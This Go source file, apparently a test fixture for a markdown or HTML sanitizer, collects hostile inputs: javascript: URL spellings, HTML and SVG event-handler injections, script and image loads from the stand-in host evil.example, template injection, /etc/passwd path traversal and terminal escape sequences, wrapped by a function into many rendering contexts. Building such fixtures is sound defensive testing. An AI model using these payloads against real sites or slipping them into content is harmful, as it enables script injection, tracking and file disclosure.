// Package hostile contains an attacker's texts: each of them was once interpreted as more than text
// somewhere.
package hostile

import (
	"fmt"
	"strings"
)

// Scripts are scripts that an attacker wants to run, in spellings that evaded filters.
var Scripts = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)",
	" javascript:alert(1)", "\x01javascript:alert(1)",
	`javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `javascript:alert(1)//http://x`, `vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`data:image/svg+xml,<svg onload=alert(1)>`, `blob:https://x/1`, `file:///etc/passwd`, `view-source:javascript:1`,
	`feed:javascript:alert(1)`, `jar:javascript:alert(1)`, `mhtml:javascript:1`, `//evil.example/x.js`,
	`\\evil.example\x`, `/\evil.example`,
}

// Markups are pieces of HTML and SVG.
var Markups = []string{
	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`,
	`"onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`, "` onclick=alert(1) `", `<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`, `<img src="https://evil.example/p.gif">`, `<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg><set attributeName=href to=javascript:alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)">`, `<embed src="https://evil.example/x.swf">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=prefetch href=https://evil.example/>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
	`<style>@import url(https://evil.example/x.css)</style>`, `<div style="background:url(https://evil.example/)">x</div>`,
	`<form action="https://evil.example/"><input type=submit autofocus></form>`,
	`<button formaction="javascript:alert(1)">x</button>`, `<input type=image src=x onerror=alert(1)>`, `<video src=https://evil.example/v poster=https://evil.example/p></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<body onload=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`,
	`<select><option onclick=alert(1)></select>`, `<x onclick=alert(1)>x</x>`, `<table background="https://evil.example/b">`, `<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`, "<img src=x\x00onerror=alert(1)>", "\xff<script>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`,
	`<%= alert(1) %>`,
}

// Payloads returns all payloads: each script in every form of an address, and each markup alone and
// in contexts that might interpret it.
func Payloads() (all []string) {
	for _, s := range Scripts {
		for _, form := range []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x][a]\n\n[a]: %s", "%s",
			"\x1b]8;;%s\x07x\x1b]8;;\x07", `<a href="%s">x</a>`} {
			all = append(all, fmt.Sprintf(form, s))
		}
	}
	for _, m := range Markups {
		for _, form := range []string{"%s", "- %s", "> %s", "| a |\n| --- |\n| %s |", "```html\n%s\n```", "**%s**",
			"\x1b[31m%s\x1b[0m", "\u202e%s\u200b"} {
			all = append(all, fmt.Sprintf(form, m))
		}
	}
	return append(all, "../../etc/passwd", "x/../../../people/signout?", "\x1b]52;c;aGk=\x07", "\x1b]0;x\x07",
		"\x1bP+q\x1b\\", strings.Repeat("[", 500), strings.Repeat("> ", 50)+"x", "![x](https://evil.example/p.png)",
		"![x](//evil.example/p.png)", "[![x](https://evil.example/p.png)](https://evil.example)")
}
